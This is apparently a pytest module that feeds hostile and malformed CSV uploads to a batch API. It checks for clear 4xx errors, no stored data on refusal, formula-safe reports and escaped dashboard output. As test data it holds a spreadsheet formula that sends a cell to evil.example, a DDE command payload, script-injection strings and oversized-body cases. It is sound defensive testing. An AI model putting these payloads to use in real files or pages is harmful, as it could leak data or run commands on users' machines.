"""Hostile and broken uploads through the real API: a clear 4xx naming the line, or a row
error naming the line and the field; never a 500, and a refused file stores nothing.

The corpus and each file's expected answer are in tests/data/bad_uploads/cases.toml. The
tests share one database and server (``emptied_api``), emptied after each test.
"""

from __future__ import annotations

import csv
import io
import socket
import tomllib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from sqlalchemy import update

from distributor.config import Settings
from distributor.constants import RowState
from distributor.db import session_scope
from distributor.models import Row
from distributor.report import FORMULA_TRIGGERS
from tests.integration.hardening.hardening_helpers import MAX_BYTES, MAX_ROWS, stored

CORPUS = Path(__file__).parents[2] / "data" / "bad_uploads"
CASES: list[dict[str, Any]] = tomllib.loads((CORPUS / "cases.toml").read_text())["upload"]
HEADER = "recipientAlias,cardNumber,pin,message\n"
TEN_MB = 10 * 1024 * 1024
BOUNDARY = "hardening-boundary"


def row(number: int, message: str = "Hello") -> str:
    """A valid row; ``number`` keeps its phone and card apart from the others."""
    return f"+6422123{1000 + number},2340332{1000 + number},1111,{message}\n"


def rows(count: int) -> str:
    return "".join(row(number) for number in range(1, count + 1))


GENERATED: dict[str, Callable[[], bytes]] = {
    "huge_line": lambda: (HEADER + row(1) + row(2, "x" * 100_000)).encode(),
    "ten_mb_cell": lambda: (HEADER + row(1) + row(2, "x" * TEN_MB)).encode(),
    "ten_mb_quoted_cell": lambda: (
        HEADER + row(1) + row(2, '"' + ("x" * 1023 + "\n") * (TEN_MB // 1024) + '"')
    ).encode(),
    "cr_only_large": lambda: (HEADER + rows(MAX_ROWS) * 150).replace("\n", "\r").encode(),
    "rows_over_limit": lambda: (HEADER + rows(MAX_ROWS + 1)).encode(),
    "rows_at_limit": lambda: (HEADER + rows(MAX_ROWS)).encode(),
    "over_max_bytes": lambda: (HEADER + row(1)).encode().ljust(MAX_BYTES + 1, b"\n"),
    "far_over_max_bytes": lambda: (HEADER + row(1)).encode().ljust(MAX_BYTES + TEN_MB, b"\n"),
}


@pytest.fixture
def api(emptied_api: httpx.Client) -> httpx.Client:
    """The module's shared client; the database is empty when the test starts."""
    return emptied_api


def _case_id(case: dict[str, Any]) -> str:
    return str(case.get("file") or case["generate"])


def _content(case: dict[str, Any]) -> tuple[str, bytes]:
    if "file" in case:
        return case["file"], (CORPUS / case["file"]).read_bytes()
    return f"{case['generate']}.csv", GENERATED[case["generate"]]()


def _detail(answer: httpx.Response) -> str:
    if answer.headers["content-type"].startswith("text/plain"):
        return answer.text  # the body limit's own answer (413 Content Too Large)
    detail = answer.json()["detail"]
    assert isinstance(detail, str), detail
    return detail


def _upload(api: httpx.Client, name: str, data: bytes) -> httpx.Response:
    return api.post("/batches", files={"file": (name, data, "text/csv")})


def test_the_corpus_has_at_least_thirty_files_each_with_an_expected_answer() -> None:
    files = {path.name for path in CORPUS.iterdir()} - {"cases.toml"}
    assert files == {case["file"] for case in CASES if "file" in case}
    assert len(files) >= 30
    assert all(path.stat().st_size < 50_000 for path in CORPUS.iterdir())


@pytest.mark.parametrize("case", CASES, ids=_case_id)
def test_a_bad_upload_gets_a_clear_answer_and_a_refused_file_stores_nothing(
    api: httpx.Client, shared_settings: Settings, case: dict[str, Any]
) -> None:
    answer = _upload(api, *_content(case))
    assert answer.status_code == case["status"], answer.text
    if answer.status_code != 201:
        detail = _detail(answer)
        assert case["says"] in detail
        if "field" in case:
            assert f"line {case['line']}, {case['field']}: " in detail
        elif "line" in case:
            assert detail.startswith(f"line {case['line']}: ")
        assert stored(shared_settings.database_url) == (0, 0)
        return
    body = answer.json()
    assert body["counts"]["pending"] == case["pending"]
    assert stored(shared_settings.database_url) == (1, sum(body["counts"].values()))
    if "line" not in case:
        assert body["problems"] == []
        return
    problems = [p for p in body["problems"] if p["line"] == case["line"]]
    assert [(p["field"], p["code"]) for p in problems][:1] == [(case["field"], case["code"])]
    assert case["says"] in problems[0]["message"]
    # the stored row says the same: its line, its field, why
    shown = api.get(f"/batches/{body['id']}/rows", params={"error_code": case["code"]}).json()
    [bad] = [r for r in shown["items"] if r["line_no"] == case["line"]]
    assert bad["state"] in (RowState.INVALID, RowState.DUPLICATE)
    assert bad["error_detail"].startswith(f"{case['field']}: {problems[0]['message']}")


def test_formula_messages_are_stored_as_written_and_the_report_runs_none_of_them(
    api: httpx.Client,
) -> None:
    data = (CORPUS / "formula_messages.csv").read_bytes()
    batch_id = _upload(api, "formulas.csv", data).json()["id"]
    messages = [r["message"] for r in api.get(f"/batches/{batch_id}/rows").json()["items"]]
    assert messages[0] == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert messages[1:4] == ["+SUM(1+1)", "@cmd|' /C calc'!A0", "-2+3"]
    report = api.get(f"/batches/{batch_id}/report.csv")
    assert report.status_code == 200
    cells = [cell for line in csv.reader(io.StringIO(report.text)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert "HYPERLINK" not in report.text  # messages are not in the report at all


def test_script_messages_are_stored_as_written_and_escaped_on_the_dashboard(
    api: httpx.Client, shared_settings: Settings
) -> None:
    data = (CORPUS / "script_messages.csv").read_bytes()
    batch_id = _upload(api, "scripts.csv", data).json()["id"]
    items = api.get(f"/batches/{batch_id}/rows").json()["items"]
    assert items[0]["message"] == "<script>alert(1)</script>"
    # the dashboard shows the messages of failed rows
    with session_scope(shared_settings.database_url) as session:
        session.execute(update(Row).values(state=RowState.FAILED, error_code="TEST"))
    page = api.get(f"/dashboard/batches/{batch_id}")
    assert page.status_code == 200
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert "<script>document" not in page.text


def _multipart(parts: Iterator[bytes]) -> Iterator[bytes]:
    yield (
        f"--{BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="file"; filename="streamed.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()
    yield from parts
    yield f"\r\n--{BOUNDARY}--\r\n".encode()


def _streamed_rows(count: int) -> Iterator[bytes]:
    yield HEADER.encode()
    for number in range(1, count + 1):
        yield row(number).encode()


def _post_streamed(api: httpx.Client, parts: Iterator[bytes]) -> httpx.Response:
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    return api.post("/batches", content=_multipart(parts), headers=headers)


def test_rows_streamed_one_by_one_just_over_the_row_limit_are_refused_and_nothing_stored(
    api: httpx.Client, shared_settings: Settings
) -> None:
    answer = _post_streamed(api, _streamed_rows(MAX_ROWS + 1))
    assert answer.status_code == 422, answer.text
    assert _detail(answer) == (
        f"line {MAX_ROWS + 2}: the file has more than {MAX_ROWS} rows; split it into smaller files"
    )
    assert stored(shared_settings.database_url) == (0, 0)
    assert _post_streamed(api, _streamed_rows(MAX_ROWS)).status_code == 201


def test_a_streamed_body_with_no_length_is_refused_once_past_the_limit(
    api: httpx.Client, shared_settings: Settings
) -> None:
    def too_much() -> Iterator[bytes]:
        yield HEADER.encode()
        for _ in range(2 * MAX_BYTES // 65_536):
            yield b"x" * 65_536

    answer = _post_streamed(api, too_much())
    assert answer.status_code == 413
    assert stored(shared_settings.database_url) == (0, 0)


def test_a_body_announced_larger_than_the_limit_is_refused_before_it_is_sent(
    api: httpx.Client, shared_settings: Settings
) -> None:
    url = urlsplit(str(api.base_url))
    with socket.create_connection((url.hostname, url.port), timeout=10) as conn:
        conn.sendall(
            (
                "POST /batches HTTP/1.1\r\n"
                f"Host: {url.netloc}\r\n"
                f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n"
                f"Content-Length: {10 * MAX_BYTES}\r\n\r\n"
            ).encode()
        )
        status_line = conn.makefile("rb").readline()
    assert status_line.startswith(b"HTTP/1.1 413"), status_line
    assert stored(shared_settings.database_url) == (0, 0)
